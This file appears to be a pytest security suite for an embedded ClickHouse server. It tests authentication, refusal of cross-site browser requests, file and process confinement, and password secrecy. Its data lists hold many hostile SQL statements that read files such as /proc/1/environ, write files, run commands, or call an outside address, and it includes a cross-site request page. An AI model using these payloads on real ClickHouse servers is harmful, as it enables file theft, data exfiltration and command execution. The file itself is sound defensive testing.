"""Who gets into the embedded ClickHouse, and what gets out of it: strangers, pages of a browser, queries of anybody."""
# ruff: noqa: RUF001 - the engine knows such quotation marks, and an attack is written with them

from __future__ import annotations

import base64
import http.client
import socket
import stat
import subprocess
import sys
import threading
from collections.abc import Iterator, Mapping
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlencode, urlsplit
from uuid import uuid4

import pytest

from pipeline.embedded.child import LOOPBACK
from pipeline.embedded.clickhouse import EmbeddedClickHouse
from pipeline.embedded.engine_rights import GRANTS
from tests.dashboard.browser import Browser, NoBrowser, browsing
from tests.support.stack import unavailable

QUESTION = {"query": "SELECT 40 + 2"}


def ask(
    clickhouse: EmbeddedClickHouse,
    parameters: Mapping[str, str],
    headers: Mapping[str, str],
    body: str | bytes | None = None,
) -> tuple[int, http.client.HTTPMessage, str]:
    """One request, as it is: without a body a GET."""
    connection = http.client.HTTPConnection(LOOPBACK, clickhouse.port, timeout=60)
    try:
        connection.request(
            "GET" if body is None else "POST", f"/?{urlencode(parameters)}", body, dict(headers)
        )
        response = connection.getresponse()
        return response.status, response.headers, response.read().decode(errors="replace")
    finally:
        connection.close()


def password_of(clickhouse: EmbeddedClickHouse) -> str:
    password = urlsplit(clickhouse.url).password
    assert password and len(password) >= 32
    return password


def basic(user: str, password: str) -> dict[str, str]:
    return {"Authorization": "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()}


def by_headers(user: str, password: str) -> dict[str, str]:
    return {"X-ClickHouse-User": user, "X-ClickHouse-Key": password}


def test_the_owner_gets_in_every_way_that_clients_know(clickhouse: EmbeddedClickHouse) -> None:
    password = password_of(clickhouse)
    for parameters, headers in [
        ({}, basic("default", password)),
        ({}, by_headers("default", password)),
        ({}, {"X-ClickHouse-Key": password}),
        ({"user": "default", "password": password}, {}),
        ({"password": password}, {}),
    ]:
        for body in (None, ""):
            assert ask(clickhouse, {**QUESTION, **parameters}, headers, body)[::2] == (200, "42\n")


def test_a_stranger_gets_in_no_way(clickhouse: EmbeddedClickHouse) -> None:
    password = password_of(clickhouse)
    ways: list[tuple[dict[str, str], dict[str, str]]] = [({}, {})]
    for user, guess in [
        ("default", ""),
        ("default", "default"),
        ("default", "ä\0"),
        ("admin", password),
        ("", password),
    ]:
        ways += [({}, basic(user, guess)), ({"user": user, "password": guess}, {})]
        if guess.isascii() and "\0" not in guess:
            ways.append(({}, by_headers(user, guess)))
    ways += [
        ({}, {"Authorization": f"Bearer {password}"}),
        ({}, {"Authorization": f"Basic {password}"}),
        ({}, {"Authorization": "Basic"}),
        ({}, {"X-ClickHouse-User": "default"}),
        # Two ways at once, even if each is right: ClickHouse takes no such request either.
        ({"user": "default", "password": password}, by_headers("default", password)),
        ({}, {**basic("default", password), **by_headers("default", "x")}),
    ]
    for parameters, headers in ways:
        for body in (None, "SELECT 40 + 2"):
            status, answered, text = ask(clickhouse, {**QUESTION, **parameters}, headers, body)
            assert status == (401 if (parameters, headers) == ({}, {}) else 403), (parameters, headers, text)
            assert answered["X-ClickHouse-Exception-Code"] == "516"
            assert "(AUTHENTICATION_FAILED)" in text and "42" not in text
            assert password not in text


def test_pages_of_a_browser_are_refused_even_if_they_know_the_password(
    clickhouse: EmbeddedClickHouse,
) -> None:
    own = f"{LOOPBACK}:{clickhouse.port}"
    owner = basic("default", password_of(clickhouse))
    for foreign in [
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
        {"Sec-Fetch-Site": "cross-site", "Origin": f"http://{own}"},
        {"Origin": "https://example.org"},
        {"Origin": "http://localhost:8080"},
        {"Origin": f"https://{own}"},
        {"Origin": "null"},
        {"Origin": "http://["},
        {"Host": "rebound.example.org"},
        {
            "Host": f"rebound.example.org:{clickhouse.port}",
            "Origin": f"http://rebound.example.org:{clickhouse.port}",
        },
        {"Host": "127.0.0.1.example.org"},
        {"Host": "["},
    ]:
        for body in (None, ""):
            status, _, text = ask(clickhouse, QUESTION, {**owner, **foreign}, body)
            assert (status, "42" in text) == (403, False), foreign
    for own_page in [
        {"Sec-Fetch-Site": "none"},
        {"Sec-Fetch-Site": "same-origin", "Origin": f"http://{own}"},
        {"Host": f"localhost:{clickhouse.port}"},
    ]:
        assert ask(clickhouse, QUESTION, {**owner, **own_page})[0] == 200, own_page


@pytest.fixture(scope="module")
def outside(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Outside]:
    made = Outside(tmp_path_factory.mktemp("outside"))
    yield made
    made.close()


class Outside:
    """A file that nobody may read, a place where nobody may write, and an address that nobody may call."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.words = f"secret{uuid4().hex}"
        self.read = folder / "secret.csv"
        self.read.write_text(f"{self.words}\n")
        self.write = folder / "written"
        self.calls = 0
        self._listener = socket.create_server((LOOPBACK, 0))
        self.port = self._listener.getsockname()[1]
        threading.Thread(target=self._count, daemon=True).start()

    def _count(self) -> None:
        while True:
            try:
                caller, _ = self._listener.accept()
            except OSError:
                return
            self.calls += 1
            caller.close()

    def close(self) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()


# R is the file to read, W the one to write, A the address to call.
BY_THE_ENGINE = r"""
SELECT * FROM file('R', 'LineAsString')
SELECT * FROM `R`
SELECT * FROM eval('SELECT * FROM file(''R'', ''LineAsString'')')
SELECT * FROM viewExplain('EXPLAIN', '', (SELECT * FROM file('R', 'LineAsString')))
SELECT * FROM url('http://A/', 'LineAsString')
SELECT * FROM s3('http://A/bucket/k', 'LineAsString')
SELECT * FROM gcs('http://A/bucket/k', 'LineAsString')
SELECT * FROM hdfs('hdfs://A/k', 'LineAsString')
SELECT * FROM azureBlobStorage('AccountName=a;AccountKey=YQ==;BlobEndpoint=http://A/', 'c', 'b', 'CSV')
SELECT * FROM deltaLake('http://A/bucket/k')
SELECT * FROM icebergLocal('R')
SELECT * FROM iceberg('http://A/bucket/k')
SELECT * FROM hudi('http://A/bucket/k')
SELECT * FROM remote('A', system.one)
SELECT * FROM remoteSecure('A', system.one)
SELECT * FROM mysql('A', 'd', 't', 'u', 'p')
SELECT * FROM postgresql('A', 'd', 't', 'u', 'p')
SELECT * FROM mongodb('A', 'd', 'c', 'u', 'p', 'a String')
SELECT * FROM redis('A', 'k', 'k String, v String')
SELECT * FROM jdbc('jdbc:x', 'd', 't')
SELECT * FROM odbc('DSN=x', 'd', 't')
SELECT * FROM executable('R', 'LineAsString', 'a String')
SELECT * FROM filesystem('R')
INSERT INTO FUNCTION file('W', 'CSV', 'a String') SELECT 'x'
INSERT INTO FUNCTION file('W', 'CSV', 'a String') VALUES ('x')
INSERT INTO FUNCTION url('http://A/', 'CSV', 'a String') SELECT 'x'
INSERT INTO FUNCTION s3('http://A/bucket/k', 'CSV', 'a String') SELECT 'x'
INSERT INTO FUNCTION remote('A', 'd', 't') SELECT 1
CREATE TABLE D.e1 (a String) ENGINE = File(CSV, 'R')
CREATE TABLE D.e2 (a String) ENGINE = URL('http://A/', 'CSV')
CREATE TABLE D.e3 (a String) ENGINE = S3('http://A/bucket/k', 'CSV')
CREATE TABLE D.e4 (a String) ENGINE = Kafka('A', 't', 'g', 'CSV')
CREATE TABLE D.e5 (a String) ENGINE = MySQL('A', 'd', 't', 'u', 'p')
CREATE TABLE D.e6 (a String) ENGINE = PostgreSQL('A', 'd', 't', 'u', 'p')
CREATE TABLE D.e7 (a String) ENGINE = SQLite('W', 't')
CREATE TABLE D.e9 (a String) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = local, path = 'W/')
CREATE TABLE D.e10 (a String) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = web, endpoint = 'http://A/')
CREATE TABLE D.e11 AS file('R', 'LineAsString')
CREATE TABLE D.e12 ENGINE = Memory AS SELECT * FROM file('R', 'LineAsString')
CREATE VIEW D.e13 AS SELECT * FROM file('R', 'LineAsString')
ATTACH TABLE D.e14 FROM 'F' (a String) ENGINE = MergeTree ORDER BY a
CREATE DATABASE d1 ENGINE = Filesystem('F')
CREATE DATABASE d2 ENGINE = SQLite('W')
CREATE DATABASE d3 ENGINE = MySQL('A', 'd', 'u', 'p')
CREATE DATABASE d4 ENGINE = PostgreSQL('A', 'd', 'u', 'p')
CREATE DATABASE d5 ENGINE = URL('http://A/')
CREATE DATABASE d6 ENGINE = Backup('D', File('R'))
CREATE DICTIONARY D.e15 (a String) PRIMARY KEY a SOURCE(FILE(path 'R' format 'TSV')) LAYOUT(FLAT())
CREATE DICTIONARY D.e16 (a String) PRIMARY KEY a SOURCE(HTTP(url 'http://A/' format 'TSV')) LAYOUT(FLAT())
CREATE DICTIONARY D.e17 (a String) PRIMARY KEY a SOURCE(EXECUTABLE(command 'cat R' format 'TSV')) LAYOUT(FLAT())
CREATE FUNCTION f AS a -> a
CREATE NAMED COLLECTION c AS a = 1
CREATE USER u
GRANT ALL ON *.* TO default
BACKUP DATABASE D TO File('W')
BACKUP DATABASE D TO Disk('default', 'W')
RESTORE DATABASE D AS d7 FROM File('R')
SYSTEM SHUTDOWN
SYSTEM RELOAD CONFIG
SYSTEM FLUSH LOGS
SYSTEM DROP FORMAT SCHEMA CACHE
SELECT 1 INTO OUTFILE 'W'
SELECT 1 /* /* */ ( */ INTO OUTFILE 'W'
SELECT ‘(’ INTO OUTFILE 'W'
EXPLAIN SELECT 1 INTO OUTFILE 'W'
SHOW DATABASES INTO OUTFILE 'W'
INSERT INTO D.t FROM INFILE 'R' FORMAT LineAsString
INSERT INTO D.t /* /* */ ( */ FROM INFILE 'R' FORMAT LineAsString
INSERT INTO D.t SETTINGS log_comment = ‘'’ FROM INFILE 'R' FORMAT LineAsString -- ' FORMAT LineAsString x
WITH 1 AS x INSERT INTO D.t FROM INFILE 'R' FORMAT LineAsString
SELECT 1 FORMAT Template SETTINGS format_template_resultset = 'R'
SELECT '1' AS a FORMAT Template SETTINGS format_template_row = 'R'
SELECT 1 FORMAT Protobuf SETTINGS format_schema = 'R:M'
SELECT * FROM format(AvroConfluent, 'a String', 'x') SETTINGS format_avro_schema_registry_url = 'http://A'
SELECT * FROM format(JSONEachRow, 'a UInt8', '{"a": "x"}') SETTINGS input_format_record_errors_file_path = 'W'
SET dialect = 'prql'
SELECT 1 SETTINGS dialect = 'kusto'
""".strip().splitlines()
BY_THE_KERNEL = r"""
SELECT file('R')
SELECT `file`('R')
SELECT "f\x69le"('R')
SELECT * APPLY(file) FROM (SELECT 'R' AS a)
SELECT arrayMap(file, ['R'])
SELECT * FROM format(Values, 'a String', '(file(\'R\'))')
SELECT * FROM format(JSONEachRow, 'a String, b String DEFAULT file(\'R\')', '{"a": "1"}')
INSERT INTO D.t VALUES (file('R'))
INSERT INTO D.t FORMAT Values (file('R'))
SELECT 1 AS x SETTINGS additional_result_filter = 'throwIf(1, file(\'R\')) = 1'
SELECT * FROM sqlite('R', 't')
SELECT file('/proc/1/environ')
""".strip().splitlines()


def attack(clickhouse: EmbeddedClickHouse, outside: Outside, sql: str, *, by_get: bool) -> tuple[int, str]:
    """The answer to a statement of one who knows the password."""
    address = f"{LOOPBACK}:{outside.port}"
    for short, long in [
        ("'F'", f"'{outside.folder}/'"),
        ("A/", f"{address}/"),
        ("'A'", f"'{address}'"),
        ("//A'", f"//{address}'"),
    ]:
        sql = sql.replace(short, long)
    for short, path in [("R", outside.read), ("W", outside.write)]:
        for before in ("'", "`", "cat "):
            sql = sql.replace(f"{before}{short}", f"{before}{path}")
    owner = basic("default", password_of(clickhouse))
    lifted = {"allow_experimental_eval_table_function": "1", "allow_introspection_functions": "1"}
    if by_get:
        return ask(clickhouse, {"query": sql, **lifted}, owner)[::2]
    return ask(clickhouse, lifted, owner, sql.encode())[::2]


def refused(clickhouse: EmbeddedClickHouse, outside: Outside, statements: list[str]) -> None:
    """Nothing of it is done: neither as a GET nor as a POST."""
    clickhouse.command("CREATE DATABASE IF NOT EXISTS D")
    clickhouse.command("CREATE TABLE IF NOT EXISTS D.t (a String) ORDER BY a")
    try:
        for sql in statements:
            for by_get in (True, False):
                status, text = attack(clickhouse, outside, sql, by_get=by_get)
                assert status >= 400, f"{sql}: {status} {text}"
                assert outside.words not in text, sql
                assert not outside.write.exists(), sql
                assert outside.calls == 0, sql
        assert clickhouse.command("SELECT count() FROM D.t") == "0\n"
        assert clickhouse.command("SELECT count() FROM system.tables WHERE database = 'D'") == "1\n"
    finally:
        clickhouse.command("DROP DATABASE D SYNC")
    assert [path.name for path in outside.folder.iterdir()] == [outside.read.name]


def test_no_query_leaves_the_database(clickhouse: EmbeddedClickHouse, outside: Outside) -> None:
    refused(clickhouse, outside, BY_THE_ENGINE)


def test_what_the_engine_would_do_the_kernel_refuses(
    clickhouse: EmbeddedClickHouse, outside: Outside, tmp_path_factory: pytest.TempPathFactory
) -> None:
    logs = [path.read_text() for path in tmp_path_factory.getbasetemp().glob("clickhouse*/clickhouse.log")]
    assert logs
    if any("may reach files of this user" in log for log in logs):
        unavailable("this kernel has no Landlock")
    refused(clickhouse, outside, BY_THE_KERNEL)


def test_a_confined_process_connects_to_nobody(outside: Outside, tmp_path: Path) -> None:
    program = f"""
import socket, sys
from pathlib import Path
from pipeline.embedded.confined import NotConfined, confine
try:
    confine(Path({str(tmp_path)!r}))
except NotConfined as reason:
    sys.exit(f"not confined: {{reason}}")
Path({str(tmp_path / "own")!r}).write_text("its own folder")
for forbidden in (
    lambda: socket.create_connection(({LOOPBACK!r}, {outside.port})),
    lambda: Path({str(outside.read)!r}).read_text(),
    lambda: Path({str(outside.write)!r}).write_text("x"),
    lambda: Path({str(outside.read)!r}).unlink(),
    lambda: Path({str(tmp_path / "own")!r}).rename({str(outside.write)!r}),
):
    try:
        forbidden()
    except PermissionError:
        print("refused")
"""
    done = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, check=False, timeout=60
    )
    if "not confined" in done.stderr:
        unavailable(done.stderr)
    assert done.stdout == "refused\n" * 5, done.stderr
    assert outside.calls == 0 and outside.read.exists() and not outside.write.exists()


def test_no_grant_is_for_what_lies_outside(clickhouse: EmbeddedClickHouse) -> None:
    # The list itself, so that one who adds to it meets this test.
    assert set(GRANTS) == {
        *("SELECT", "INSERT", "ALTER TABLE", "ALTER VIEW", "CREATE DATABASE", "CREATE TABLE", "CREATE VIEW"),
        *("CREATE TEMPORARY TABLE", "DROP", "TRUNCATE", "OPTIMIZE", "SHOW", "KILL QUERY", "SYSTEM MERGES"),
    }
    (line,) = clickhouse.command("SHOW GRANTS").splitlines()
    assert set(line.removeprefix("GRANT ").removesuffix(" ON *.* TO default").split(", ")) == set(GRANTS)


def test_the_folder_is_its_owners_alone(tmp_path: Path) -> None:
    folder = tmp_path / "new" / "clickhouse"
    folder.mkdir(parents=True, mode=0o755)
    first = EmbeddedClickHouse(folder=folder)
    assert first.url
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stat.S_IMODE((folder / "password").stat().st_mode) == 0o600
    assert password_of(first) == password_of(EmbeddedClickHouse(folder=folder))
    assert password_of(first) != password_of(EmbeddedClickHouse(folder=tmp_path / "other"))
    assert password_of(first) not in repr(first)


def test_nobody_sees_the_password_among_the_arguments(clickhouse: EmbeddedClickHouse) -> None:
    words = (
        Path(f"/proc/{clickhouse.pid}/cmdline").read_bytes()
        + Path(f"/proc/{clickhouse.pid}/environ").read_bytes()
    )
    assert b"password" in words
    assert password_of(clickhouse).encode() not in words


class _Page(BaseHTTPRequestHandler):
    def __init__(self, html: str, *arguments: object) -> None:
        self._html = html
        super().__init__(*arguments)  # type: ignore[arg-type]

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        self.wfile.write(self._html.encode())

    def log_message(self, *_: object) -> None:
        """Quiet."""


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    try:
        with browsing("", tmp_path_factory.mktemp("browser")) as made:
            yield made
    except NoBrowser as reason:
        unavailable(str(reason))


def test_no_page_of_a_real_browser_writes_a_row(clickhouse: EmbeddedClickHouse, browser: Browser) -> None:
    clickhouse.command("CREATE DATABASE page")
    clickhouse.command("CREATE TABLE page.t (how String) ORDER BY how")
    base = f"http://{LOOPBACK}:{clickhouse.port}/"
    owner = {"user": "default", "password": password_of(clickhouse)}

    def address(how: str) -> str:
        # Even one that knows the password, so that it is the page that is refused and not the stranger.
        return f"{base}?{urlencode({**owner, 'query': f'INSERT INTO page.t SELECT {how!r}'})}"

    html = f"""<!doctype html><title>foreign</title>
<a id=link href="{address("link")}">x</a>
<form id=form method=post action="{address("form")}"><button>x</button></form>
<script>
async function all(image, beacon, posted) {{
  await new Promise(done => {{ const i = new Image(); i.onload = i.onerror = done; i.src = image; }});
  await new Promise(done => {{ const s = document.createElement('script'); s.onload = s.onerror = done; s.src = image;
    document.body.append(s); }});
  const said = [];
  for (const mode of ['cors', 'no-cors']) for (const method of ['GET', 'POST'])
    said.push(await fetch(posted, {{mode, method, credentials: 'include'}}).then(a => a.text(), e => 'refused'));
  navigator.sendBeacon(beacon, '');
  return said;
}}
</script>"""
    server = ThreadingHTTPServer((LOOPBACK, 0), partial(_Page, html))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        # Another port of the same name, and another name: the same site, and another one.
        for name in (LOOPBACK, "localhost"):
            page = f"http://{name}:{server.server_port}/"
            browser.open(page)
            said = browser.driver.execute_async_script(
                "const done = arguments[3]; all(arguments[0], arguments[1], arguments[2]).then(done)",
                address("image"), address("beacon"), address("fetch"),
            )  # fmt: skip
            assert said == ["refused", "refused", "", ""]
            for how in ("#link", "#form button"):
                browser.open(page)
                browser.one(how).click()
                browser.wait(lambda: "only for programs" in browser.driver.page_source)
        # A person who types the address is no page.
        browser.open(f"{base}?{urlencode({**owner, 'query': 'SELECT 40 + 2 FORMAT JSON'})}")
        assert "42" in browser.driver.page_source
        assert clickhouse.command("SELECT how FROM page.t") == ""
        # And the addresses are good ones: a program that sends them writes.
        status, _, text = ask(clickhouse, owner, {}, "INSERT INTO page.t SELECT 'program'")
        assert status == 200, text
        assert clickhouse.command("SELECT how FROM page.t") == "program\n"
    finally:
        server.shutdown()
        server.server_close()
        clickhouse.command("DROP DATABASE page SYNC")
